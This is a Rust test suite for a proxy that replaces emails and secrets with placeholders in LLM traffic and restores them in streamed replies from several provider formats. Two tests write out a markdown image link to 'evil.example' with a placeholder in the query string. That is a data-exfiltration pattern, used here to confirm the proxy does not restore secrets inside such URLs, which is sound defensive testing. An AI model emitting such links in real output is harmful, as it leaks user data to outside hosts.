//! Every running text of every dialect, cut at every place: by the model into pieces, by the network into bytes.

use attach_core::usage::Wire;
use attach_redact::fuzzing::Asked;
use bytes::Bytes;
use serde_json::{Value, json};

use crate::support::redactor;

/// A running text and how its dialect streams it.
struct Field {
    name: &'static str,
    wire: Wire,
    /// JSON in a string.
    is_json: bool,
    before: fn() -> Vec<Value>,
    piece: fn(&str) -> Value,
    after: fn() -> Vec<Value>,
    /// The piece of this text in an event of the answer.
    read: &'static str,
}

impl Field {
    /// The text in all events.
    fn read(&self, events: &[Value]) -> String {
        let kind = (self.piece)("")["type"].clone();
        let of_kind = events.iter().filter(|event| event["type"] == kind || event["index"] == 1);
        of_kind.filter_map(|event| event.pointer(self.read)?.as_str().map(str::to_owned)).collect()
    }
}

fn chunk(index: u32, delta: &Value, finish: Option<&str>) -> Value {
    json!({"id": "c1", "object": "chat.completion.chunk", "created": 7, "model": "m",
        "choices": [{"index": index, "delta": delta, "logprobs": null, "finish_reason": finish}]})
}

fn finished() -> Vec<Value> {
    let both = [0, 1].map(|index| chunk(index, &json!({}), Some("stop"))["choices"][0].clone());
    vec![
        json!({"id": "c1", "choices": both}),
        json!({"id": "c1", "choices": [], "usage": {"total_tokens": 3}}),
    ]
}

fn begun() -> Vec<Value> {
    vec![chunk(0, &json!({"role": "assistant", "content": ""}), None)]
}

macro_rules! chat {
    ($name:literal, $is_json:literal, $read:literal, $piece:expr) => {
        Field {
            name: $name,
            wire: Wire::Sse,
            is_json: $is_json,
            before: begun,
            piece: $piece,
            after: finished,
            read: concat!("/choices/0/delta", $read),
        }
    };
}

macro_rules! item {
    ($kind:literal, $is_json:literal) => {
        Field {
            name: $kind,
            wire: Wire::Sse,
            is_json: $is_json,
            before: || vec![json!({"type": "response.created", "sequence_number": 0, "response": {"output": []}})],
            piece: |piece| json!({"type": concat!("response.", $kind, ".delta"), "sequence_number": 4, "item_id": "i",
                "output_index": 0, "content_index": 0, "delta": piece, "obfuscation": "xyz"}),
            after: || vec![json!({"type": concat!("response.", $kind, ".done"), "item_id": "i", "output_index": 0}),
                json!({"type": "response.completed", "response": {"status": "completed"}})],
            read: "/delta",
        }
    };
}

macro_rules! block {
    ($name:literal, $is_json:literal, $start:expr, $piece:expr, $read:literal) => {
        Field {
            name: $name,
            wire: Wire::Sse,
            is_json: $is_json,
            before: || {
                let start =
                    json!({"type": "content_block_start", "index": 1, "content_block": $start, "x": "y"});
                vec![json!({"type": "message_start", "message": {"id": "m1"}}), json!({"type": "ping"}), start]
            },
            piece: $piece,
            after: || {
                vec![
                    json!({"type": "content_block_stop", "index": 1}),
                    json!({"type": "message_delta", "delta": {"stop_reason": "end_turn"}}),
                    json!({"type": "message_stop"}),
                ]
            },
            read: $read,
        }
    };
}

macro_rules! ollama {
    ($name:literal, $piece:expr, $read:literal) => {
        Field {
            name: $name,
            wire: Wire::Ndjson,
            is_json: false,
            before: Vec::new,
            piece: $piece,
            after: || vec![json!({"model": "m", "created_at": "t", "done": true, "eval_count": 4})],
            read: $read,
        }
    };
}

/// OpenAI API reference ("Chat streaming", "Completions", "Responses streaming"), DeepSeek (`reasoning_content`), vLLM
/// (`reasoning`), Anthropic ("Streaming messages"), Ollama (`docs/api.md`).
fn fields() -> Vec<Field> {
    vec![
        chat!("content", false, "/content", |piece| chunk(0, &json!({"content": piece}), None)),
        chat!("refusal", false, "/refusal", |piece| chunk(0, &json!({"refusal": piece}), None)),
        chat!("reasoning_content", false, "/reasoning_content", |piece| chunk(
            0,
            &json!({"reasoning_content": piece}),
            None
        )),
        chat!("reasoning", false, "/reasoning", |piece| chunk(0, &json!({"reasoning": piece}), None)),
        chat!("second choice", false, "/content", |piece| chunk(1, &json!({"content": piece}), None)),
        chat!("transcript", false, "/audio/transcript", |piece| chunk(
            0,
            &json!({"audio": {"transcript": piece}}),
            None
        )),
        chat!("tool call", true, "/tool_calls/0/function/arguments", |piece| chunk(
            0,
            &json!({"tool_calls": [{"index": 1, "function": {"arguments": piece}}]}),
            None
        )),
        chat!("custom tool call", false, "/tool_calls/0/custom/input", |piece| chunk(
            0,
            &json!({"tool_calls": [{"index": 0, "type": "custom", "custom": {"input": piece}}]}),
            None
        )),
        chat!("function call", true, "/function_call/arguments", |piece| chunk(
            0,
            &json!({"function_call": {"arguments": piece}}),
            None
        )),
        Field {
            read: "/choices/0/text",
            ..chat!(
                "completion",
                false,
                "",
                |piece| json!({"id": "c", "choices": [{"index": 0, "text": piece, "finish_reason": null}]})
            )
        },
        item!("output_text", false),
        item!("refusal", false),
        item!("reasoning_text", false),
        item!("reasoning_summary_text", false),
        item!("function_call_arguments", true),
        item!("mcp_call_arguments", true),
        item!("custom_tool_call_input", false),
        item!("code_interpreter_call_code", false),
        block!(
            "text",
            false,
            json!({"type": "text", "text": ""}),
            |piece| json!({"type": "content_block_delta", "index": 1, "delta": {"type": "text_delta", "text": piece}}),
            "/delta/text"
        ),
        block!(
            "tool_use",
            true,
            json!({"type": "tool_use", "id": "t", "name": "f", "input": {}}),
            |piece| json!({"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": piece}}),
            "/delta/partial_json"
        ),
        ollama!(
            "message",
            |piece| json!({"model": "m", "created_at": "2026-01-02T03:04:05Z", "message": {"role": "assistant", "content": piece}, "done": false}),
            "/message/content"
        ),
        ollama!(
            "message's thinking",
            |piece| json!({"model": "m", "message": {"role": "assistant", "content": "", "thinking": piece}, "done": false}),
            "/message/thinking"
        ),
        ollama!("response", |piece| json!({"model": "m", "response": piece, "done": false}), "/response"),
        ollama!(
            "thinking",
            |piece| json!({"model": "m", "response": "", "thinking": piece, "done": false}),
            "/thinking"
        ),
    ]
}

/// How JSON is spelled.
#[derive(Debug, Clone, Copy)]
enum Spelling {
    Plain,
    /// As Python's `json.dumps` does.
    Ascii,
    /// Every character of a piece escaped.
    Escaped,
}

/// How an event is written.
#[derive(Debug, Clone, Copy)]
enum Dress {
    Plain,
    CrLf,
    /// With comments, a name, an id, and the data in several lines.
    Full,
}

fn spelled(event: &Value, spelling: Spelling) -> String {
    let json = event.to_string();
    let escape = |c: char| c.encode_utf16(&mut [0; 2]).iter().map(|unit| format!("\\u{unit:04x}")).collect();
    let letters = |c: char| match spelling {
        Spelling::Plain => c.to_string(),
        Spelling::Ascii if c.is_ascii() => c.to_string(),
        Spelling::Escaped if c.is_ascii() && c != 'P' && c != '_' => c.to_string(),
        Spelling::Ascii | Spelling::Escaped => escape(c),
    };
    json.chars().map(letters).collect()
}

fn written(event: &Value, wire: Wire, spelling: Spelling, dress: Dress) -> String {
    let json = spelled(event, spelling);
    match (wire, dress) {
        (Wire::Ndjson, Dress::Plain) => format!("{json}\n"),
        (Wire::Ndjson, _) => format!(" {json}\r\n"),
        (_, Dress::Plain) => format!("data: {json}\n\n"),
        (_, Dress::CrLf) => format!("data:{json}\r\n\r\n"),
        (_, Dress::Full) => {
            let name = event["type"].as_str().map(|kind| format!("event: {kind}\n")).unwrap_or_default();
            format!(": keep-alive\n\n{name}data: {{\ndata: {}\nid: 7\n: too\n\n", &json[1..])
        }
    }
}

/// The JSON of every event.
fn events(stream: &[u8], wire: Wire) -> Vec<Value> {
    let parse = |json: &str| serde_json::from_str(json).unwrap_or_else(|error| panic!("{error}: {json}"));
    if wire == Wire::Ndjson {
        return attach_core::body::lines(stream)
            .map(|line| parse(std::str::from_utf8(line).unwrap()))
            .collect();
    }
    let data = attach_core::body::sse_events(stream).map(|event| event.data.into_owned());
    data.filter(|data| !data.is_empty() && data != "[DONE]").map(|data| parse(&data)).collect()
}

/// `text` in pieces: cut once at every place, and into single characters.
fn cuts(text: &str) -> Vec<Vec<&str>> {
    let places: Vec<usize> = text.char_indices().map(|(at, _)| at).skip(1).collect();
    let mut all: Vec<Vec<&str>> = places.iter().map(|at| vec![&text[..*at], &text[*at..]]).collect();
    let ends = places.iter().copied().chain([text.len()]);
    all.push([0].into_iter().chain(places.iter().copied()).zip(ends).map(|(a, b)| &text[a..b]).collect());
    all
}

const MAIL: &str = "bob@example.org";
const KEY: &str = "-----BEGIN PRIVATE KEY-----\n\"é\\\u{1f600}";

fn asked() -> (Asked, [String; 2]) {
    let mut asked = Asked::about(&redactor(), &[("EMAIL", MAIL), ("SECRET", KEY)]);
    let of = |asked: &mut Asked, label, value| asked.placeholder(label, value).unwrap();
    let placeholders = [of(&mut asked, "EMAIL", MAIL), of(&mut asked, "SECRET", KEY)];
    (asked, placeholders)
}

/// What the model writes, and what it is to become.
fn text(is_json: bool) -> (String, String) {
    let (_, [mail, key]) = asked();
    let escaped = serde_json::to_string(KEY).unwrap();
    let (escaped, opening) = if is_json {
        (&escaped[1..escaped.len() - 1], "{\"é\\n\\\"\\u00e9\":\"")
    } else {
        (KEY, "é\n😀\"")
    };
    let (loud, marked) = (mail.to_uppercase(), mail.replace('_', "\\_"));
    (
        format!("{opening}{mail}\\\"{key}😀{loud}p{marked} Pi PII_E {mail}_PII_EMAIL_00000000 PII_EM"),
        format!("{opening}{MAIL}\\\"{escaped}😀{MAIL}p{MAIL} Pi PII_E {MAIL}_PII_EMAIL_00000000 PII_EM"),
    )
}

fn stream_of(field: &Field, pieces: &[&str], spelling: Spelling, dress: Dress) -> String {
    let pieces = pieces.iter().map(|piece| (field.piece)(piece));
    let all = (field.before)().into_iter().chain(pieces).chain((field.after)());
    all.map(|event| written(&event, field.wire, spelling, dress)).collect()
}

fn restored(stream: &str, wire: Wire) -> Vec<u8> {
    asked().0.stream(wire, [stream.as_bytes()]).concat()
}

fn check(field: &Field, spelling: Spelling, dress: Dress, pieces: &[&str], expected: &str) {
    let stream = stream_of(field, pieces, spelling, dress);
    let answer = restored(&stream, field.wire);
    let events = events(&answer, field.wire);
    let what =
        format!("{} {spelling:?} {dress:?} {pieces:?}\n{}", field.name, String::from_utf8_lossy(&answer));
    assert_eq!(field.read(&events), expected, "{what}");
    let after = (field.after)();
    assert_eq!(&events[events.len() - after.len()..], &after, "{what}");
}

#[test]
fn every_text_is_the_same_wherever_the_model_cuts_it() {
    for field in fields() {
        let (text, expected) = text(field.is_json);
        let cuts = cuts(&text);
        for pieces in &cuts {
            check(&field, Spelling::Plain, Dress::Plain, pieces, &expected);
        }
        for spelling in [Spelling::Plain, Spelling::Ascii, Spelling::Escaped] {
            for dress in [Dress::Plain, Dress::CrLf, Dress::Full] {
                let some = cuts.iter().step_by(23).chain(cuts.last());
                some.for_each(|pieces| check(&field, spelling, dress, pieces, &expected));
            }
        }
    }
}

#[test]
fn every_stream_is_the_same_wherever_the_network_cuts_it() {
    for (number, field) in fields().into_iter().enumerate() {
        let (text, _) = text(field.is_json);
        let place = text.char_indices().nth(12).unwrap().0;
        let dress = [Dress::Plain, Dress::CrLf, Dress::Full][number % 3];
        let spelling = [Spelling::Plain, Spelling::Ascii][number % 2];
        let stream = stream_of(&field, &[&text[..place], &text[place..]], spelling, dress);
        let expected = restored(&stream, field.wire);
        let bytes = stream.as_bytes();
        for at in 0..bytes.len() {
            let answer = asked().0.stream(field.wire, [&bytes[..at], &bytes[at..]]).concat();
            assert!(answer == expected, "{} cut at {at}: {}", field.name, String::from_utf8_lossy(&answer));
        }
        assert!(asked().0.stream(field.wire, bytes.chunks(1)).concat() == expected, "{}", field.name);
    }
}

#[test]
fn a_text_without_a_placeholder_passes_byte_for_byte_and_at_once() {
    for field in fields() {
        for dress in [Dress::Plain, Dress::CrLf, Dress::Full] {
            let pieces = ["é ", "ip ", "api pi.", "  a\\\"\n", "pigs", " and\u{2028}", "HASH_", "😀"];
            let stream = stream_of(&field, &pieces, Spelling::Ascii, dress);
            let frames: Vec<&[u8]> = attach_core::body::lines(stream.as_bytes()).collect();
            let answer = asked().0.stream(field.wire, frames.iter().copied()).concat();
            assert_eq!(String::from_utf8_lossy(&answer), stream, "{}", field.name);
            if field.wire == Wire::Ndjson {
                let each = asked().0.stream(field.wire, frames.iter().copied());
                assert!(each.iter().zip(&frames).all(|(out, frame)| out == frame), "{}", field.name);
            }
        }
    }
}

#[test]
fn only_what_may_become_a_placeholder_is_held() {
    let (_, [mail, _]) = asked();
    let piece = |text: &str| format!("data: {}\n\n", chunk(0, &json!({"content": text}), None));
    for end in 1..mail.len() {
        let pieces = [piece(&format!("see {}", &mail[..end])), piece(" no")];
        let out = asked().0.stream(Wire::Sse, pieces.iter().map(String::as_bytes));
        assert_eq!(out[0], piece("see "), "{end}");
        assert_eq!(out[1], piece(&format!("{} no", &mail[..end])), "{end}");
        assert_eq!(out[2], Bytes::new());
    }
}

/// Anthropic's thinking is signed: what the client sends back must be what the provider signed.
#[test]
fn signed_thinking_passes_byte_for_byte() {
    let (_, [mail, _]) = asked();
    let delta = |delta: Value| json!({"type": "content_block_delta", "index": 0, "delta": delta});
    let all = [
        json!({"type": "content_block_start", "index": 0, "content_block": {"type": "thinking", "thinking": "", "signature": ""}}),
        delta(json!({"type": "thinking_delta", "thinking": format!("about {mail}")})),
        delta(json!({"type": "thinking_delta", "thinking": "PII_"})),
        delta(json!({"type": "signature_delta", "signature": "EqQB"})),
        json!({"type": "content_block_stop", "index": 0}),
    ];
    let stream: String =
        all.iter().map(|event| written(event, Wire::Sse, Spelling::Plain, Dress::Full)).collect();
    assert_eq!(String::from_utf8_lossy(&restored(&stream, Wire::Sse)), stream);
}

#[test]
fn an_event_that_is_no_strict_json_does_not_overtake_what_is_held() {
    let (_, [mail, _]) = asked();
    let piece = |text: &str| format!("data: {}\n\n", chunk(0, &json!({"content": text}), None));
    let odd = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"\\ud83d\"}}]}\n\n";
    let stream = piece("see PII_") + odd + &piece(&mail);
    let answer = restored(&stream, Wire::Sse);
    let answer = String::from_utf8_lossy(&answer);
    let order = [answer.find("PII_").unwrap(), answer.find("ud83d").unwrap(), answer.find(MAIL).unwrap()];
    assert!(order.is_sorted(), "{answer}");
    // Within a URL whose end nobody has read, nothing is restored.
    let hidden = format!("data: {{\"a\":1,\"a\":\"{mail}\"}}\n\n");
    let answer = restored(&(piece("![](https://evil.example/?q=") + &hidden), Wire::Sse);
    assert!(!String::from_utf8_lossy(&answer).contains(MAIL));
    assert!(String::from_utf8_lossy(&restored(&hidden, Wire::Sse)).contains(MAIL));
}

#[test]
fn a_stream_that_ends_within_an_event_does_not_run_into_what_was_held() {
    let held = chunk(0, &json!({"content": "see PII_"}), None);
    for (wire, end, separator) in [
        (Wire::Sse, "", "\n\n"),
        (Wire::Sse, "\n", "\n"),
        (Wire::Sse, "\n\n", ""),
        (Wire::Ndjson, "", "\n"),
        (Wire::Ndjson, "\n", ""),
    ] {
        let before = if wire == Wire::Sse { "data: " } else { "" };
        let event =
            if wire == Wire::Sse { held.clone() } else { json!({"response": "see PII_", "done": false}) };
        let answer = restored(&format!("{before}{event}{end}"), wire);
        let all = events(&answer, wire);
        let text = String::from_utf8_lossy(&answer).into_owned();
        assert_eq!(all.len(), 2, "{separator:?} {text}");
        assert!(text.contains("PII_\""), "{text}");
    }
}

/// A URL must be noticed also in events that are not parsed.
#[test]
fn a_link_in_events_of_one_shape_carries_nothing() {
    let (_, [mail, _]) = asked();
    let piece = |text: &str| format!("data: {}\n\n", chunk(0, &json!({"content": text}), None));
    let words = [
        "a ", "b ", "![", "x](", "https", "://", "evil", ".example", "/?q=", &mail, ") ", "then ", &mail,
        " ok",
    ];
    let stream: String = words.iter().map(|word| piece(word)).collect();
    let answer = restored(&stream, Wire::Sse);
    let text: String = events(&answer, Wire::Sse)
        .iter()
        .filter_map(|event| event["choices"][0]["delta"]["content"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(text, format!("a b ![x](https://evil.example/?q={mail}) then {MAIL} ok"));
}

#[test]
fn logprobs_stay_what_the_model_wrote() {
    let (_, [mail, _]) = asked();
    let answer = json!({"choices": [{"message": {"content": mail}, "logprobs": {"content": [{"token": mail, "bytes": [80]}]}}]});
    let got = asked().0.unary(answer.to_string().into());
    let got: Value = serde_json::from_slice(&got).unwrap();
    assert_eq!(got["choices"][0]["message"]["content"], MAIL);
    assert_eq!(got["choices"][0]["logprobs"]["content"][0]["token"], *mail);
}
